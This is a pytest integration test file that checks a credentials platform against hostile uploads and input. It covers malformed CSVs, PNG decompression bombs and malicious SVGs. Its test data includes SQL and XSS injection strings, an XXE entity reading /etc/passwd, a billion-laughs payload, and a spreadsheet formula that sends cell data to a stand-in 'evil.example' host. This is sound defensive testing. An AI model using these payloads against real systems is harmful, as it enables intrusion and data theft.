"""Hostile input: uploads built to break the parsers, and names and payloads built to break the pages.

Uploads (the org chart, bulk awards, badge images, the assessor's form) are refused with a
problem saying why, never a 500, and write nothing. Names in any script and payloads aimed at SQL,
HTML, JavaScript and templates are stored and returned exactly as sent, and every page and email
that shows them shows them as text.
"""

import struct
import zlib
from datetime import UTC, datetime

import pytest
from markupsafe import escape

from shared.auth import ASSESSOR, HR_ADMIN
from tests.integration.helpers import count, handle, issuer_handlers, problem, rows
from tests.integration.pathways_support import earn, import_csv, org_chart, requests_of, seed_catalog
from tests.integration.test_notifications_api import credential_issued, emails_to, join_directory
from tests.integration.test_notifications_api import handlers as notification_handlers
from tests.integration.test_pathways_pages import csrf_token, signed_in
from tests.support import bearer, unique

pytestmark = pytest.mark.infra

CLOCK = datetime(2027, 5, 4, 9, tzinfo=UTC)
LATER = datetime(2090, 1, 1, tzinfo=UTC)  # these deliveries are the delivery log's newest, whatever other tests sent
COMPLETED = "skillstack.academy.assessment.completed.v1"
PERSON = "skillstack.directory.person.upserted.v1"
MIB = 1024 * 1024
PAYLOADS = {
    "arabic": "عائشة", "spanish": "José Ñúñez", "chinese": "李小龍", "emoji": "Ada 👩🏽‍💻🚀", "combining marks": "Zoe\u0308 Ame\u0301lie",
    "right-to-left override": "Ada \u202egnp.exe\u202c", "zero-width joiners": "Ad\u200da\u200c Lo\u200bve", "sql quote": "'; DROP TABLE people; --",
    "sql or": '" OR 1=1 --', "script": "<script>alert(1)</script>", "attribute": '"><img src=x onerror=alert(1)>', "template": "{{7*7}}",
}
payloads = pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())


def hr(service: str) -> dict[str, str]:
    return bearer(service, unique("hr"), roles=(HR_ADMIN,))


def assert_shown_as_text(page: str, value: str) -> None:
    """The value is on the page escaped as text, and markup in it never reaches the page raw."""
    assert str(escape(value)) in page, value
    if "<" in value:
        assert value not in page


def png(width=32, height=16, *, middle=b"") -> bytes:
    """A PNG's signature, header and end, with any bytes between them."""
    header = b"IHDR" + struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    end = struct.pack(">I", 0) + b"IEND" + struct.pack(">I", zlib.crc32(b"IEND"))
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + header + struct.pack(">I", zlib.crc32(header)) + middle + end


# --- uploads ----------------------------------------------------------------------------

def hostile_csvs(header: str, row: str) -> dict[str, bytes]:
    """CSV files built to break a reader, from a valid header and row (whose email is ada's)."""
    return {
        "binary garbage": bytes(range(256)) * 40,
        "latin-1": f"{header}\n{row}\n".replace("ada@", "josé@").encode("latin-1"),
        "utf-16 with a bom": f"{header}\n{row}\n".encode("utf-16"),
        "100k columns": f"{header}\n".encode() + b"x," * 100_000 + b"\n",
        "unclosed quote": f'{header}\n"{row}\n{row}\n'.encode(),
        "nul bytes": f"{header}\n{row}\n".replace("ada@", "a\x00da@").encode(),
        "no header": b"",
    }


ORG_CHARTS = hostile_csvs("employee_id,email,name,manager_id", "emp-1,ada@example.com,Ada Lovelace,")


@pytest.mark.parametrize("body", ORG_CHARTS.values(), ids=ORG_CHARTS.keys())
def test_a_hostile_org_chart_is_refused_with_a_problem_and_imports_nothing(pathways, body):
    before = count(pathways, "people")

    response = import_csv(pathways, body)

    problem(response, 422)
    assert count(pathways, "people") == before


def test_an_org_chart_over_32_mib_is_refused_before_it_is_read(pathways):
    response = import_csv(pathways, b"employee_id,email,name,manager_id\n" + b"x" * (32 * MIB))

    problem(response, 413)


def test_a_formula_in_an_org_chart_cell_is_stored_as_text(pathways):
    employee, formula = unique("emp"), '=HYPERLINK("https://evil.example/steal?c="&A1,"Click me")'

    assert import_csv(pathways, org_chart((employee, formula, ""))).status_code == 200

    assert pathways.test_client().get(f"/api/people/{employee}", headers=hr("pathways")).get_json()["name"] == formula


AWARD_FILES = hostile_csvs("employee_id,email,credential,evidence_url,date", "emp-1,ada@example.com,sql,,2026-01-31") | {
    "formula": b'employee_id,email,credential,evidence_url,date\n=HYPERLINK("https://evil.example"),a@example.com,=1+1,,2026-01-31\n',
}


@pytest.mark.parametrize("body", AWARD_FILES.values(), ids=AWARD_FILES.keys())
def test_a_hostile_awards_file_is_refused_or_reported_never_a_500(issuer, body):
    response = issuer.test_client().post("/api/bulk-issuances", data=body, content_type="text/csv", headers=hr("issuer"))

    if response.status_code == 201:  # read as CSV: every row is reported invalid, none can be issued
        report = response.get_json()
        assert report["valid_rows"] == 0 and report["status"] == "rejected", report
    else:
        problem(response, 422)


def test_an_awards_file_over_32_mib_is_refused(issuer):
    body = b"employee_id,email,credential,evidence_url,date\n" + b"x" * (32 * MIB)

    response = issuer.test_client().post("/api/bulk-issuances", data=body, content_type="text/csv", headers=hr("issuer"))

    problem(response, 413)


@pytest.fixture
def achievement(issuer) -> str:
    definition = {"id": unique("badge"), "name": "Badge", "description": "A badge.", "assessment_id": unique("a"), "min_score": 80}
    response = issuer.test_client().post("/api/achievements", json=definition, headers=hr("issuer"))
    assert response.status_code == 201, response.get_data(as_text=True)
    return definition["id"]


IMAGES = {
    "html called a png": ("image/png", b"<!doctype html><script>alert(1)</script>", "PNG signature"),
    "decompression bomb png": ("image/png", png(100_000, 100_000, middle=struct.pack(">I", 8) + b"IDAT" + zlib.compress(b"\0" * 8)[:8] + b"\0\0\0\0"), "pixels"),
    "huge png": ("image/png", png(4096, 1), "pixels"),
    "png with broken chunks": ("image/png", png(middle=b"\xff\xff\xff\xffjunk"), "chunk"),
    "svg script": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "script"),
    "svg onload": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>', "onload"),
    "svg foreignObject": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></body></foreignObject></svg>', "foreignObject"),
    "svg external xlink": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="https://evil.example/x.svg#a"/></svg>', "evil.example"),
    "svg javascript link": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>', "<a>"),
    "svg css import": ("image/svg+xml", b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import url(https://evil.example/x.css);</style></svg>', "style"),
    "svg xxe": ("image/svg+xml", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>', "DOCTYPE"),
    "svg billion laughs": ("image/svg+xml", b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>', "DOCTYPE"),
    "not svg at all": ("image/svg+xml", b"\x00\x01binary", "well-formed"),
}


@pytest.mark.parametrize("media_type,body,reason", IMAGES.values(), ids=IMAGES.keys())
def test_a_hostile_badge_image_is_refused_saying_why_and_the_badge_keeps_its_version(issuer, achievement, media_type, body, reason):
    response = issuer.test_client().put(f"/api/achievements/{achievement}/image", data=body, content_type=media_type, headers=hr("issuer"))

    assert reason in problem(response, 422)["detail"]
    assert issuer.test_client().get(f"/api/achievements/{achievement}", headers=hr("issuer")).get_json()["version"] == 1


def test_an_svg_badge_is_served_sanitised_and_sandboxed(issuer, achievement):
    upload = (b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://example.com/ev" viewBox="0 0 8 8" data-track="1">'
              b'<metadata>editor</metadata><set attributeName="href" to="javascript:alert(1)"/><circle r="4" ev:x="1"/></svg>')
    assert issuer.test_client().put(f"/api/achievements/{achievement}/image", data=upload, content_type="image/svg+xml",
                                    headers=hr("issuer")).status_code == 200

    served = issuer.test_client().get(f"/achievements/{achievement}/v2/image")

    assert served.mimetype == "image/svg+xml" and served.headers["X-Content-Type-Options"] == "nosniff"
    assert "default-src 'none'" in served.headers["Content-Security-Policy"]
    assert b"javascript" not in served.data and b"<set" not in served.data and b"metadata" not in served.data
    assert b"data-track" not in served.data and b"<circle" in served.data


def test_an_image_over_256_kib_is_too_large(issuer, achievement):
    response = issuer.test_client().put(f"/api/achievements/{achievement}/image", data=png() + b"\0" * (256 * 1024),
                                        content_type="image/png", headers=hr("issuer"))

    problem(response, 413)


@pytest.fixture
def reviewed_assessment(issuer) -> str:
    """An assessment assessors record results of (the form shows none without one)."""
    definition = {"id": unique("portfolio"), "name": "Portfolio", "description": "Reviewed.", "assessment_id": unique("review"),
                  "threshold": "pass_fail", "assessor_reviewed": True}
    assert issuer.test_client().post("/api/achievements", json=definition, headers=hr("issuer")).status_code == 201
    return definition["assessment_id"]


@payloads
def test_the_assessor_form_shows_hostile_values_back_as_text(issuer, reviewed_assessment, payload):
    assessor = signed_in(issuer, unique("assessor"), roles=(ASSESSOR,))
    token = csrf_token(assessor.get("/assessments/record").get_data(as_text=True))

    response = assessor.post("/assessments/record", data={
        "csrf_token": token, "employee_id": payload, "assessment_id": payload, "evidence_url": "javascript:alert(1)",
        "evidence_name": payload, "completed_on": payload})

    assert response.status_code == 422
    assert_shown_as_text(response.get_data(as_text=True), payload)


def test_text_with_nul_characters_is_refused_not_a_500(issuer, pathways):
    definition = {"id": unique("nul"), "name": "SQL\x00", "description": "x", "assessment_id": "a\x00", "min_score": 1}

    refused = issuer.test_client().post("/api/achievements", json=definition, headers=hr("issuer"))
    gaps = pathways.test_client().get(f"/api/people/{unique('emp')}/gaps?pathway_id=%00&level=1", headers=hr("pathways"))

    assert set(problem(refused, 422)["errors"]) == {"name", "assessment_id"}
    assert problem(gaps, 422)["errors"]["query"] == {"pathway_id": ["must not contain NUL characters or unpaired surrogates"]}


@pytest.mark.parametrize("service,path", [("issuer", "/api/achievements/x%00"), ("pathways", "/api/pathways/x%00"),
                                          ("notifications", "/api/webhooks/x%00")])
def test_a_nul_in_a_path_is_not_found_not_a_500(apps, service, path):
    client = apps[service].test_client()
    response = (client.delete if service == "notifications" else client.get)(path, headers=hr(service))

    assert response.status_code == 404


# --- names and payloads, stored exactly and shown as text ------------------------------


@payloads
def test_an_achievement_and_a_person_keep_their_text_in_the_api_the_catalog_wallet_and_public_page(issuer, payload):
    employee, achievement_id = unique("emp"), unique("badge")
    handle(issuer, issuer_handlers(issuer, CLOCK), PERSON, {"employee_id": employee, "email": "a@example.com", "name": payload})
    definition = {"id": achievement_id, "name": payload, "description": payload, "assessment_id": unique("a"), "min_score": 50}
    client = issuer.test_client()

    assert client.post("/api/achievements", json=definition, headers=hr("issuer")).status_code == 201
    handle(issuer, issuer_handlers(issuer, CLOCK), COMPLETED, {
        "attempt_id": unique("attempt"), "employee_id": employee, "email": "a@example.com", "assessment_id": definition["assessment_id"],
        "score": 90.0, "completed_at": CLOCK, "source": "lms"})
    [credential] = rows(issuer, "SELECT id FROM credentials WHERE employee_id = :e", e=employee)
    client.put(f"/api/credentials/{credential['id']}/sharing", json={"public": True}, headers=bearer("issuer", employee))
    revoked = client.post(f"/api/credentials/{credential['id']}/revoke", json={"reason": payload}, headers=hr("issuer"))

    stored = client.get(f"/api/achievements/{achievement_id}", headers=hr("issuer")).get_json()
    assert (stored["name"], stored["description"], revoked.get_json()["revocation_reason"]) == (payload, payload, payload)
    assert_shown_as_text(signed_in(issuer, unique("hr"), roles=(HR_ADMIN,)).get("/catalog").get_data(as_text=True), payload)
    assert_shown_as_text(signed_in(issuer, employee).get("/wallet").get_data(as_text=True), payload)
    assert_shown_as_text(client.get(f"/credentials/{credential['id']}").get_data(as_text=True), payload)


@payloads
def test_pathway_level_and_person_names_and_a_comment_keep_their_text_in_the_api_and_pages(pathways, payload):
    employee, manager, pathway_id = unique("emp"), unique("boss"), unique("path")
    assert import_csv(pathways, org_chart((manager, payload, ""), (employee, payload, manager))).status_code == 200
    [credential] = seed_catalog(pathways, "SQL Foundations")
    definition = {"id": pathway_id, "name": payload, "levels": [{"name": payload, "credentials": [credential]}]}
    client = pathways.test_client()
    assert client.post("/api/pathways", json=definition, headers=hr("pathways")).status_code == 201
    earn(pathways, employee, credential)
    [request] = requests_of(pathways, employee)
    pages = {page: signed_in(pathways, manager).get(page).get_data(as_text=True) for page in ("/team", "/approvals")}
    pages["/"] = signed_in(pathways, employee).get("/").get_data(as_text=True)
    pages["/overview"] = signed_in(pathways, unique("hr"), roles=(HR_ADMIN,)).get("/overview").get_data(as_text=True)

    rejected = client.post(f"/api/advancement-requests/{request['id']}/reject", json={"comment": payload},
                           headers=bearer("pathways", manager))

    person = client.get(f"/api/people/{employee}", headers=hr("pathways")).get_json()
    pathway = client.get(f"/api/pathways/{pathway_id}", headers=hr("pathways")).get_json()
    history = client.get(f"/api/advancement-requests/{request['id']}/history", headers=hr("pathways")).get_json()
    assert (person["name"], pathway["name"], pathway["levels"][0]["name"]) == (payload, payload, payload)
    assert rejected.get_json()["comment"] == payload and history[-1]["comment"] == payload
    for page in pages.values():
        assert_shown_as_text(page, payload)


@payloads
def test_messages_about_hostile_names_are_escaped_in_the_inbox_the_delivery_log_and_the_email(notifications, payload):
    employee, manager = unique("ada"), unique("boss")
    join_directory(notifications, manager, payload, clock=LATER)
    join_directory(notifications, employee, payload, manager, clock=LATER)
    credential_issued(notifications, employee, payload, clock=LATER)
    handle(notifications, notification_handlers(LATER), "skillstack.pathways.advancement.rejected.v1", {
        "request_id": unique("request"), "employee_id": employee, "decided_by": manager, "pathway_id": unique("path"),
        "pathway_name": payload, "level": 1, "level_name": payload, "decided_at": LATER, "comment": payload})

    emails = emails_to(notifications, employee)
    inbox = signed_in(notifications, employee).get("/inbox").get_data(as_text=True)
    deliveries = signed_in(notifications, unique("hr"), roles=(HR_ADMIN,)).get("/deliveries")

    assert len(emails) == 2
    for email in emails:
        assert_shown_as_text(email["html_body"], payload)
        assert payload in email["text_body"]
    assert_shown_as_text(inbox, payload)
    assert_shown_as_text(deliveries.get_data(as_text=True), payload)
